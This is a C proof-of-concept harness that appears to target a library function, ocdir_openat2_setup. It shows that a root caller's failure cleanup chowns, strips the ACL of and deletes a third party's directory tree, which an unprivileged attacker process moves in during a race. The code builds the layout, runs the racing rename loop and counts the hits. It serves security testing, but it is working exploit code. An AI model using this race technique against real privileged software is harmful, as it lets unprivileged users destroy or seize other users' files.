/* SPDX-License-Identifier: MIT */
/*
 * takeback_foreign.c - a root caller's failure cleanup (take_back() and
 * remove_contents() under remove_from_public_name/remove_made_at) chowns,
 * chmods, strips the ACL of, and deletes the whole subtree of a directory
 * that the call never made: a third party's directory that the attacker
 * moved into the given-away directory before setup failed.
 *
 * Layout (all on one filesystem, BASE):
 *   BASE/atkB.N/arena        0755 root  (private parent: setup in place)
 *   BASE/atkB.N/share        0777 uid 1001 (non-sticky; e.g. a project dir)
 *   BASE/atkB.N/share/tree   0777 uid 1001, ACL u:1002:rwx
 *   BASE/atkB.N/share/tree/priv          0755 uid 1001
 *   BASE/atkB.N/share/tree/priv/precious 0644 uid 1001
 * The attacker (65534) may move "tree" (it can write it and share) but
 * cannot delete "precious" (priv is 0755 uid 1001).
 *
 * Victim root: ocdir_openat2_setup(arena, "target", 0755) with a setup that
 * (mode A) fchowns the directory to 65534 or (mode B) fchmods it 01777,
 * lets the attacker move share/tree into it, then fails with -EDQUOT.
 * Hits: precious deleted; tree chowned/chmodded/ACL removed.
 *
 *   takeback_foreign BASE ROUNDS [chown|chmod]
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <signal.h>
#include <unistd.h>
#include "ocdir.h"

static char root[256];
static int mode_chmod;

static int setup_fail(int fd, const char *path, unsigned int flags, void *arg)
{
	char from[512], to[512];
	(void)path; (void)flags; (void)arg;
	if (mode_chmod)
		fchmod(fd, 01777);
	else
		(void)!fchown(fd, 65534, 65534), fchmod(fd, 0755);
	if (getenv("LIVE"))	/* no help: a real setup that fails at once */
		return -EPERM;
	/* the attacker, now allowed to add entries, moves a foreign tree in */
	pid_t a = fork();
	if (!a) {
		(void)!setresgid(65534, 65534, 65534);
		(void)!setresuid(65534, 65534, 65534);
		snprintf(from, sizeof from, "%s/share/tree", root);
		snprintf(to, sizeof to, "%s/arena/target/stolen", root);
		_exit(rename(from, to) == 0 ? 0 : 1);
	}
	int st;
	waitpid(a, &st, 0);
	if (!WIFEXITED(st) || WEXITSTATUS(st))
		fprintf(stderr, "attacker rename failed\n");
	return -EDQUOT;
}

static void acl_u1002(char *buf, size_t *len)
{
	/* posix_acl xattr v2: header + entries (tag, perm, id) */
	struct { unsigned short tag, perm; unsigned int id; } e[] = {
		{ 0x01, 7, -1 }, { 0x02, 7, 1002 }, { 0x04, 7, -1 }, { 0x10, 7, -1 }, { 0x20, 7, -1 } };
	unsigned int ver = 2;
	memcpy(buf, &ver, 4);
	memcpy(buf + 4, e, sizeof e);
	*len = 4 + sizeof e;
}

int main(int argc, char **argv)
{
	const char *base = argc > 1 ? argv[1] : "/dev/shm";
	long rounds = argc > 2 ? atol(argv[2]) : 100, i;
	long hit_del = 0, hit_own = 0, hit_acl = 0, calls_fail = 0, target_left = 0;
	char p[512], acl[128];
	size_t acllen;

	mode_chmod = argc > 3 && !strcmp(argv[3], "chmod");
	umask(022);
	acl_u1002(acl, &acllen);
	for (i = 0; i < rounds; i++) {
		snprintf(root, sizeof root, "%s/atkB.%d.%ld", base, getpid(), i);
		mkdir(root, 0755);
		snprintf(p, sizeof p, "%s/arena", root); mkdir(p, 0755);
		snprintf(p, sizeof p, "%s/share", root); mkdir(p, 0777); chmod(p, 0777); (void)!chown(p, 1001, 1001);
		snprintf(p, sizeof p, "%s/share/tree", root); mkdir(p, 0777); chmod(p, 0777); (void)!chown(p, 1001, 1001);
		if (setxattr(p, "system.posix_acl_access", acl, acllen, 0) < 0)
			perror("setxattr acl");
		snprintf(p, sizeof p, "%s/share/tree/priv", root); mkdir(p, 0755); (void)!chown(p, 1001, 1001);
		snprintf(p, sizeof p, "%s/share/tree/priv/precious", root);
		close(open(p, O_CREAT | O_WRONLY, 0644)); (void)!chown(p, 1001, 1001);
		if (getenv("IMMUT")) {	/* stop the deletion to see what take_back did */
			char c[600]; snprintf(c, sizeof c, "chattr +i %s", p); (void)!system(c);
		}

		pid_t live = 0;
		if (getenv("LIVE")) {
			live = fork();
			if (!live) {	/* attacker: try to move the tree in, all the time */
				char from[512], to[512];
				(void)!setresgid(65534, 65534, 65534);
				(void)!setresuid(65534, 65534, 65534);
				snprintf(from, sizeof from, "%s/share/tree", root);
				snprintf(to, sizeof to, "%s/arena/target/stolen", root);
				for (long k = 0; k < 20000000; k++)
					if (rename(from, to) == 0)
						_exit(0);
				_exit(1);
			}
			usleep(200);
		}
		snprintf(p, sizeof p, "%s/arena", root);
		int dfd = open(p, O_PATH | O_DIRECTORY);
		struct ocdir_how how = { .flags = O_RDONLY, .mode = 0755 };
		int created = -1;
		int fd = ocdir_openat2_setup(dfd, "target", &how, sizeof how, setup_fail, NULL, &created);
		int e = errno;
		if (fd >= 0) close(fd); else calls_fail++;
		if (live) { kill(live, 9); waitpid(live, NULL, 0); }
		close(dfd);
		if (i == 0)
			fprintf(stderr, "call: fd=%d errno=%s\n", fd, strerror(e));

		/* where is the tree now? (it was moved under target/stolen) */
		struct stat st;
		char cmd[1024];
		snprintf(cmd, sizeof cmd, "find %s -name precious | grep -q .", root);
		if (system(cmd) != 0)
			hit_del++;
		snprintf(cmd, sizeof cmd, "find %s -name stolen -user 1001 | grep -q .", root);
		int owned_ok = system(cmd) == 0;
		snprintf(cmd, sizeof cmd, "find %s -name tree -user 1001 | grep -q .", root);
		if (!owned_ok && system(cmd) != 0)
			hit_own++;
		snprintf(p, sizeof p, "%s/arena/target", root);
		if (lstat(p, &st) == 0)
			target_left++;
		if (i == 0) {
			snprintf(cmd, sizeof cmd, "find %s -printf '%%M %%u:%%g %%p\\n' >&2", root);
			(void)!system(cmd);
		}
		if (getenv("IMMUT")) {
			snprintf(cmd, sizeof cmd, "getfacl -Rp %s 2>/dev/null | grep -E 'file|user:1002' >&2; chattr -R -i %s 2>/dev/null", root, root);
			if (i == 0) (void)!system(cmd); else { snprintf(cmd, sizeof cmd, "chattr -R -i %s 2>/dev/null", root); (void)!system(cmd);} 
		}
		snprintf(cmd, sizeof cmd, "rm -rf '%s'", root);
		(void)!system(cmd);
	}
	(void)hit_acl;
	printf("RESULT takeback_foreign base=%s mode=%s rounds=%ld calls_failed=%ld "
	       "HITS_deleted_foreign_file=%ld HITS_foreign_dir_gone_or_chowned=%ld target_left=%ld\n",
	       base, mode_chmod ? "chmod1777" : "chown", rounds, calls_fail, hit_del, hit_own, target_left);
	return 0;
}
